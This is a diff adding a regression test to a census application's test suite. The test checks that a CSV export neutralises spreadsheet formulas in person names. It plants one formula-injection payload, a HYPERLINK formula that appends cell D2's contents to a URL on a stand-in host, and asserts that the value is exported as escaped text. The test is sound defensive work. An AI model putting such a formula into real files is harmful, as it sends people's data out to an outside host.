@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 from typing import Any
 
@@ -183,3 +184,14 @@ def test_the_upload_page_offers_the_template_that_the_import_reads(world: World)
 def test_residents_get_no_import_template(world: World) -> None:
     client = client_for(world.resident)
     assert client.get(reverse("census:import_template", args=["xlsx"])).status_code == 403
+
+
+def test_a_name_written_as_a_formula_is_exported_as_text_a_spreadsheet_will_not_run(
+    world: World,
+) -> None:
+    formula = '=HYPERLINK("http://x.example/?"&D2,"Ver")'
+    Person.objects.filter(household=world.household).update(first_names=formula)
+    response = client_for(world.comptroller).get(reverse("census:export", args=["csv"]))
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+    assert "'" + formula in [row[3] for row in rows]
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
